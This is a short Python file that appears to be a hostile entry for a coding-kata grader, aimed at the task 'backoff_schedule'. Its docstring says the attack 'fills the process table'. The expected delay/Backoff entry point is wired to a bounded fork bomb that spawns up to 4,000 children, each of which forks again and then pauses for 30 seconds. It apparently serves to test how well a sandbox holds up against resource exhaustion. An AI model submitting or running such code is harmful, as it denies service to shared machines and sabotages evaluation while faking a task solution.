"""Fills the process table.

Kata: backoff_schedule
Attack: Forks up to 4,000 children, each of which forks again; all end by themselves after half a minute.
Status: failed or error or timed-out
Points: 0
Needs: processes
"""

import os
import signal


def attack():
    for _ in range(4000):
        if os.fork() == 0:
            signal.signal(signal.SIGALRM, signal.SIG_DFL)
            signal.alarm(30)
            try:
                os.fork()
            except OSError:
                pass
            while True:
                signal.pause()


def delay(*args, **options):
    return attack()


Backoff = delay
